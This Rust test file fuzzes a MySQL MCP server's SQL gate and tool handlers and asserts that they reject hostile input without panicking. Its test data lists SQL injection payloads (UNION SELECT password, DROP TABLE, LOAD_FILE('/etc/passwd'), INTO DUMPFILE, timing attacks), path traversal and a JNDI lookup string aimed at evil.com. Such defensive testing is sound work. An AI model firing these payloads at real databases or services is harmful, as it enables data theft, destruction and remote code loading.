//! Black-box fuzzing tests for the MySQL MCP Server.
//!
//! This test suite feeds random, malicious and edge-case inputs to the SQL
//! gate and the tool handlers to discover panics and gate bypasses. No MySQL
//! server is needed: the registry is empty, so anything the gate accepts
//! fails afterwards with a connection error.

use mysql_mcp_server::db::{ConnectionRegistry, QueryExecutor};
use mysql_mcp_server::error::DbError;
use mysql_mcp_server::tools::format::OutputFormat;
use mysql_mcp_server::tools::query::{QueryToolHandler, RunQueryInput};
use mysql_mcp_server::tools::vector::{VectorSearchInput, VectorToolHandler};
use mysql_mcp_server::validation::{
    quote, validate_combined, validate_select_columns, validate_where,
};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use std::sync::Arc;
use std::time::Duration;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "üöÄ".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "../../etc/passwd".to_string(),
        "a".repeat(10000),
        "a".repeat(1_000_000),
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "';SELECT * FROM information_schema.tables--".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "'\\''".to_string(),
        "`".repeat(7),
        "\"\\\"".to_string(),
        "(".repeat(500),
    ]
}

fn query_handler() -> QueryToolHandler {
    QueryToolHandler::new(
        Arc::new(ConnectionRegistry::new()),
        QueryExecutor::new(Duration::from_secs(1), 0),
    )
}

fn run_input(sql: &str) -> RunQueryInput {
    RunQueryInput {
        sql: sql.to_string(),
        database: None,
        max_rows: Some(10),
        format: OutputFormat::Json,
    }
}

/// SQL keywords and punctuation glued together at random.
const TOKENS: &[&str] = &[
    "SELECT", "FROM", "WHERE", "UNION", "ALL", "INTO", "OUTFILE", "DROP", "TABLE", "users",
    "mysql.user", "sys.x", "SLEEP(1)", "get_lock('a',1)", "(", ")", ";", "--", "/*", "*/", "#",
    "'", "\"", "`", "\\", "*", ",", "=", "1", "'a;b'", "LIMIT", "SHOW", "TABLES", "EXPLAIN",
    "DESCRIBE", "USE", "SET", "@@global", "CALL", "LOAD_FILE('/etc/passwd')", "\n", " ",
];

fn random_sql(rng: &mut impl Rng) -> String {
    let len = rng.gen_range(1..20);
    let mut parts = Vec::with_capacity(len);
    for _ in 0..len {
        if let Some(token) = TOKENS.choose(&mut *rng) {
            parts.push(*token);
        }
    }
    parts.join(" ")
}

#[test]
fn fuzz_gate_never_accepts_dangerous_text() {
    let mut rng = rand::thread_rng();
    for _ in 0..5000 {
        let sql = random_sql(&mut rng);
        let Ok(_) = validate_combined(&sql) else {
            continue;
        };

        // Anything accepted must be free of these once literals are set aside.
        let upper = sql.to_uppercase();
        for marker in ["--", "/*", "#", "SLEEP(", "GET_LOCK(", "LOAD_FILE(", "INTO OUTFILE"] {
            if upper.contains(marker) {
                // Markers are allowed only inside literals.
                let stripped = mysql_mcp_server::validation::strip_literals(&sql).to_uppercase();
                assert!(
                    !stripped.contains(marker),
                    "gate accepted {sql:?} containing {marker}"
                );
            }
        }
    }
}

#[test]
fn fuzz_gate_edge_cases_do_not_panic() {
    for input in edge_case_strings() {
        let _ = validate_combined(&input);
        let _ = validate_where(&input);
        let _ = validate_select_columns(&input);
        let _ = quote(&input);
    }
}

#[test]
fn fuzz_random_bytes_do_not_panic() {
    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let len = rng.gen_range(0..256);
        let bytes: Vec<u8> = (0..len).map(|_| rng.r#gen()).collect();
        let text = String::from_utf8_lossy(&bytes);
        let _ = validate_combined(&text);
        let _ = validate_where(&text);
    }
}

#[tokio::test]
async fn fuzz_run_query_injection() {
    let handler = query_handler();

    let malicious_sqls = [
        "'; DROP TABLE users; --",
        "1' UNION SELECT password FROM users--",
        "SELECT * FROM users WHERE name = 'admin'--'",
        "SELECT SLEEP(100)",
        "SELECT BENCHMARK(10000000, MD5('test'))",
        "SELECT * FROM users; DELETE FROM logs;",
        "SELECT/**/password/**/FROM/**/users",
        "INSERT INTO users SELECT * FROM admin_users",
        "UPDATE users SET admin=1 WHERE '1'='1",
        "SELECT * FROM users INTO DUMPFILE '/tmp/x'",
        "SELECT * FROM performance_schema.threads",
        "SET GLOBAL general_log = 1",
        "LOCK TABLES users WRITE",
        "HANDLER users OPEN",
    ];

    for sql in malicious_sqls {
        let err = handler.run_query(run_input(sql)).await.unwrap_err();
        assert!(err.is_rejection(), "{sql:?} reached the database: {err:?}");
    }
}

#[tokio::test]
async fn fuzz_run_query_reads_reach_registry() {
    let handler = query_handler();

    for sql in ["SeLeCt * FrOm UsErS", "SELECT * FROM (SELECT * FROM users) AS x"] {
        let err = handler.run_query(run_input(sql)).await.unwrap_err();
        // Accepted by the gate; fails only because nothing is registered.
        assert!(matches!(err, DbError::Connection { .. }), "{sql:?}: {err:?}");
    }
}

#[tokio::test]
async fn fuzz_run_query_database_names() {
    let handler = query_handler();

    for database in edge_case_strings() {
        let mut input = run_input("SELECT 1");
        input.database = Some(database);
        let result = handler.run_query(input).await;
        assert!(result.is_err());
    }
}

#[tokio::test]
async fn fuzz_vector_search_inputs() {
    let handler = VectorToolHandler::new(
        Arc::new(ConnectionRegistry::new()),
        QueryExecutor::new(Duration::from_secs(1), 0),
    );

    for text in edge_case_strings() {
        let input = VectorSearchInput {
            database: "shop".to_string(),
            table: "items".to_string(),
            column: "embedding".to_string(),
            query_vector: vec![0.5, 0.25],
            limit: Some(u32::MAX),
            select: Some(text.clone()),
            where_clause: Some(text),
            distance_func: Default::default(),
            format: OutputFormat::Json,
        };
        // Either rejected up front or failing on the empty registry.
        assert!(handler.vector_search(input).await.is_err());
    }
}
